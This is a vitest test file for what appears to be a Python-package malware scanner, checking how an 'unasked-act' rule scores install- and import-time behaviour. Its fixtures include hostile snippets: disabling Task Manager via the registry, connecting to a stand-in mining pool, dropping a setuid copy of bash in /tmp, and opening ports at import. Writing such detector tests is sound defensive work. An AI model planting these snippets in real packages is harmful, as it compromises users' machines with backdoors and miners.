import { describe, expect, test } from 'vitest';
import { inspect, type Packed, python, sdist, wheel } from '../../support/inspect.ts';

const atInstall = (...lines: readonly string[]): Packed =>
  sdist({ 'setup.py': python(...lines, 'from setuptools import setup', "setup(name='example')") });
const atImport = (...lines: readonly string[]): Packed => wheel({ 'pkg/__init__.py': python(...lines) });
const onCall = (...lines: readonly string[]): Packed =>
  wheel({ 'pkg/tool.py': python('def run():', ...lines.map((line) => `    ${line}`)) });

describe('something that comes up before a person', () => {
  const box = ['import ctypes', "ctypes.windll.user32.MessageBoxW(0, 'hello', '', 16)"];

  test('weighs more at install than at import, and nothing on call', async () => {
    expect(await inspect('unasked-act', atInstall(...box))).toMatchObject([
      { class: 'suspicious', score: 6, context: 'install', line: 2 },
    ]);
    expect(await inspect('unasked-act', atImport(...box))).toMatchObject([{ score: 4, context: 'import', line: 2 }]);
    expect(await inspect('unasked-act', onCall(...box))).toEqual([]);
  });

  test('is found by another library, another name and a name from pieces', async () => {
    for (const lines of [
      ['from tkinter import messagebox as m', "m.showinfo('a', 'b')"],
      ['import win32api', "getattr(win32api, 'Message' + 'Box')(0, 'a', 'b')"],
      ['from ctypes import windll as w', 'u = w.user32', "u.SystemParametersInfoW(20, 0, 'a.bmp', 3)"],
    ])
      expect(await inspect('unasked-act', atImport(...lines))).toMatchObject([{ score: 4, line: lines.length }]);
  });
});

describe('settings in the registry', () => {
  const set = (key: string, name: string): string[] => [
    'import winreg',
    `key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'${key}')`,
    `winreg.SetValueEx(key, '${name}', 0, winreg.REG_DWORD, 1)`,
  ];

  test('that guard the machine are malware, others suspicious', async () => {
    const guarding = set('Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System', 'DisableTaskMgr');

    expect(await inspect('unasked-act', atImport(...guarding))).toMatchObject([
      { class: 'malware', score: 9, line: 3 },
    ]);
    expect(await inspect('unasked-act', atImport(...set('Software\\Example', 'Seen')))).toMatchObject([
      { class: 'suspicious', score: 4 },
    ]);
  });

  test('are silent for the colours of a terminal, on call, and where persistence tells them', async () => {
    expect(await inspect('unasked-act', atImport(...set('Console', 'VirtualTerminalLevel')))).toEqual([]);
    expect(await inspect('unasked-act', onCall(...set('Software\\Example', 'Seen')))).toEqual([]);
    expect(
      await inspect('unasked-act', atImport(...set('Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Seen'))),
    ).toEqual([]);
  });
});

describe('a port', () => {
  test('that an import opens to other machines is suspicious, in a thread as well', async () => {
    const socks = [
      'import socketserver, threading',
      'class Handler(socketserver.BaseRequestHandler):',
      '    def handle(self): pass',
      "server = socketserver.ThreadingTCPServer(('0.0.0.0', 1080), Handler)",
      'threading.Thread(target=server.serve_forever, daemon=True).start()',
    ];
    const pages = ['from flask import Flask', 'app = Flask(__name__)', "app.run(host='0.0.0.0', port=5005)"];

    for (const lines of [socks, pages])
      expect(await inspect('unasked-act', atImport(...lines))).toMatchObject([
        { class: 'suspicious', score: 4, line: lines.length },
      ]);
  });

  test('for this machine alone, on call or behind a test for a start is nobody’s business', async () => {
    for (const file of [
      atImport('from flask import Flask', 'Flask(__name__).run()'),
      atImport(
        'import http.server',
        "http.server.HTTPServer(('127.0.0.1', 0), http.server.BaseHTTPRequestHandler).handle_request()",
      ),
      onCall('import bottle', "bottle.run(host='0.0.0.0')"),
      atImport('import bottle', "if __name__ == '__main__':", "    bottle.run(host='0.0.0.0')"),
    ])
      expect(await inspect('unasked-act', file)).toEqual([]);
  });
});

describe('mining', () => {
  const lines = [
    'import socket',
    "pool = socket.create_connection(('pool.coins.invalid', 3333))",
    'pool.sendall((\'{"id": 1, "method": "mining.\' + \'subscribe", "params": []}\').encode())',
  ];

  test('at import is malware, and a client of pools that is called is one', async () => {
    expect(await inspect('unasked-act', atImport(...lines))).toMatchObject([{ class: 'malware', score: 10, line: 3 }]);
    expect(await inspect('unasked-act', onCall(...lines))).toEqual([]);
  });
});

describe('a mark that an install leaves', () => {
  test('in a common folder, on the desktop or in a home is told with its place', async () => {
    for (const path of [
      "'/tmp/seen'",
      "os.path.join(os.path.expanduser('~'), 'Desktop', 'READ.txt')",
      "pathlib.Path.home() / 'seen.txt'",
    ])
      expect(
        await inspect('unasked-act', atInstall('import os, pathlib', `open(${path}, 'w').write('seen')`)),
      ).toMatchObject([{ class: 'suspicious', score: 4, context: 'install', line: 2 }]);
  });

  test('is none where a build needs a temporary file, a setting of its own, or a file beside it', async () => {
    for (const path of [
      "os.path.join(tempfile.mkdtemp(), 'probe.c')",
      "os.path.expanduser('~/.config/example/settings.ini')",
      "'example/_version.py'",
    ])
      expect(
        await inspect('unasked-act', atInstall('import os, tempfile', `open(${path}, 'w').write('seen')`)),
      ).toEqual([]);
  });
});

test('asking for a setting of the screen shows nothing to anybody', async () => {
  const calling = (what: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python('import win32con, win32gui', `win32gui.SystemParametersInfo(win32con.${what})`),
    });

  expect(await inspect('unasked-act', calling('SPI_GETMOUSEHOVERTIME'))).toEqual([]);
  expect(await inspect('unasked-act', calling("SPI_SETDESKWALLPAPER, 'a.png', 3"))).toMatchObject([{ score: 4 }]);
});

test('a program that is lent the rights of its owner by an import is a way back in', async () => {
  const file = (mode: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, shutil',
        "shutil.copy('/bin/bash', '/tmp/.b')",
        `os.chmod('/tmp/.b', ${mode})`,
      ),
    });

  expect(await inspect('unasked-act', file('0o4755'))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 3 },
  ]);
  expect(await inspect('unasked-act', file('0o755'))).toEqual([]);
});
